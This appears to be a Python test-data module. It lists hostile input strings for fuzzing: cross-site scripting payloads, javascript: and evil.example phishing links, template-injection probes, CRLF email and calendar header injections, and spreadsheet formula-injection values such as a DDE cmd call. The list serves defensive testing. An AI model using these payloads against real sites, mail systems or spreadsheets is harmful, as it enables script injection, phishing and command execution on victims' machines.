"""What attackers write where words are asked for: to run in a page, to add headers, to be clicked, to be computed."""

from typing import Final

SCRIPTS: Final = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src=//evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<form action=//evil.example><input name=password>",
    "</text></svg><script>alert(1)</script>",
    "</svg><foreignObject><body onload=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{ 7*7 }}{% debug %}",
    "{0.__class__.__mro__} {title} %(ref)s ${7*7}",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
)
LINKS: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://evil.example/sign-in",
    "//evil.example",
    "[here](https://evil.example)",
    "www.evil.example",
    "mailto:evil@evil.example?bcc=all@example.com",
)
LINES: Final = (
    "x\r\nBcc: evil@evil.example",
    "x\nSubject: Evil\n\nBody",
    "x\rContent-Type: text/html",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "=?utf-8?q?x=0D=0ABcc:_evil@evil.example?=",
    "x\u2028Bcc: evil@evil.example",
    "x\x0bBcc: evil@evil.example",
    "x\r\nBEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM",
    "x\nATTACH:https://evil.example",
    "x;ATTENDEE=mailto:evil@evil.example:y",
    "x\\nEND:VEVENT\\, \\; \\",
    "x\r\nSet-Cookie: sessionid=evil",
)
FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example";"x")',
    "+1+cmd|'x'!A0",
    "-2+3+cmd|'x'!A0",
    "@SUM(1+1)*cmd|'x'!A0",
    "\t=1+1",
    "\r=1+1",
    'x",=1+1,"',
    "x;=1+1;x",
    "x\n=1+1",
)
WORDS: Final = (*SCRIPTS, *LINKS, *LINES, *FORMULAS)
FOUL: Final = "zq\"'><b/onclick=x>&amp;@example.com"
"""An address that no mail server takes and no form lets through, for where one is shown."""
